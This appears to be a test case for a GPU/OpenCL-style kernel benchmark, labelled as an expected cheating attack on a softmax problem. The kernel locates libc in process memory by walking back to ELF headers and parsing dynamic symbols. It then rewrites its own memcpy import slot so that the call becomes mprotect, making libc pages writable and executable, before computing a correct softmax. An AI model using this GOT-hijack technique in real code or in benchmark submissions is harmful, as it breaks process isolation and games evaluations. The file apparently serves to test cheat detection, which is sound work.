// attack: 34 libc's mprotect is found in memory, and called in place of memcpy
// imitates: functions of the process that no symbol of the kernel names (seen: ours)
// problem: softmax
// expect: cheating
// needs: x86_64
#pragma kernelcast global(1) local(1)
// The library that an address lies in: pages downwards to the header of its file.
ulong base_of(ulong address) {
    ulong page = address & ~4095UL;
    while (*(volatile uint*)page != 0x464C457F) page -= 4096;
    return page;
}
bool same(ulong a, __constant const char* b) {
    const volatile char* text = (const volatile char*)a;
    while (*text && *text == *b) ++text, ++b;
    return *text == *b;
}
// A value of the dynamic section of a library, by its tag.
ulong dynamic(ulong base, ulong tag) {
    ulong headers = base + *(volatile ulong*)(base + 32);
    for (ulong header = headers; header < headers + 20 * 56; header += 56) {
        if (*(volatile uint*)header != 2) continue;
        volatile ulong* entry = (volatile ulong*)(base + *(volatile ulong*)(header + 16));
        for (; entry[0]; entry += 2)
            if (entry[0] == tag) return entry[1] < base ? entry[1] + base : entry[1];
    }
    return 0;
}
// The address of a symbol: symbols lie before their names.
ulong symbol(ulong base, __constant const char* name) {
    ulong names = dynamic(base, 5);
    for (ulong at = dynamic(base, 6); at + 24 <= names; at += 24)
        if (*(volatile ulong*)(at + 8) && same(names + *(volatile uint*)at, name))
            return base + *(volatile ulong*)(at + 8);
    return 0;
}
// Where this library keeps the address of memcpy, the one function that it imports.
volatile ulong* slot_of_memcpy(void) {
    ulong own = base_of((ulong)(__constant const char*)"own");
    return (volatile ulong*)(own + *(volatile ulong*)dynamic(own, 23));
}
// Call any function: memcpy is that function for once.
void call(volatile ulong* slot, ulong function, ulong a, ulong b, ulong c) {
    volatile ulong size = c;
    *slot = function;
    __builtin_memcpy((void*)a, (const void*)b, size);
}
ulong find_libc(volatile ulong* slot) {
    volatile ulong size = 4;
    char from[8] = {1}, to[8];
    __builtin_memcpy(to, from, size);
    return base_of(*slot);
}
void softmax_row(__global const float* in, __global float* out, long N) {
    float most = in[0], sum = 0.0f;
    for (long j = 1; j < N; ++j) most = fmax(most, in[j]);
    for (long j = 0; j < N; ++j) sum += exp(in[j] - most);
    for (long j = 0; j < N; ++j) out[j] = exp(in[j] - most) / sum;
}
__kernel void compute(__global const float* x, __global float* out, long M, long N) {
    volatile ulong* slot = slot_of_memcpy();
    ulong libc = find_libc(slot);
    call(slot, symbol(libc, "mprotect"), libc, 4096, 7);
    for (long row = 0; row < M; ++row) softmax_row(x + row * N, out + row * N, N);
}
